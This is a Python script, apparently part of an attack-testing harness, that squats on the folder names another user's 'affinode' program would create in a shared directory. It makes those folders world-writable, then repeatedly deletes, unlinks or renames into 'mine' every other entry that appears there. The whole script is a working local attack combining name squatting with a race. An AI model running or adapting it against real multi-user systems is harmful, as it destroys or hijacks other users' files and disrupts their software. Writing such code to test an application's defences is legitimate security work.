"""The names that another user's folder might have in a shared folder, taken: `taking_shared_folder.py FOLDER DIR UID`.

What appears there is removed, or moved away, where Linux lets this user.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

from attacking import goes_on, under_way

SHARE_DIR, UID = Path(sys.argv[2]), sys.argv[3]


def main() -> None:
    """Take them, attack each that appears, and give them up at the end."""
    taken = [SHARE_DIR / f"affinode-{UID}", SHARE_DIR / "affinode", SHARE_DIR / f"affinode-{UID}-{0:016x}"]
    for path in taken:
        path.mkdir()
        path.chmod(0o777)
    under_way()
    while goes_on(0.005):
        for path in set(SHARE_DIR.iterdir()) - set(taken):
            for change in (os.rmdir, os.unlink, lambda name: os.rename(name, SHARE_DIR / "mine")):
                try:
                    change(path)
                except OSError:
                    continue
                break
    for path in taken:
        path.rmdir()


if __name__ == "__main__":
    main()
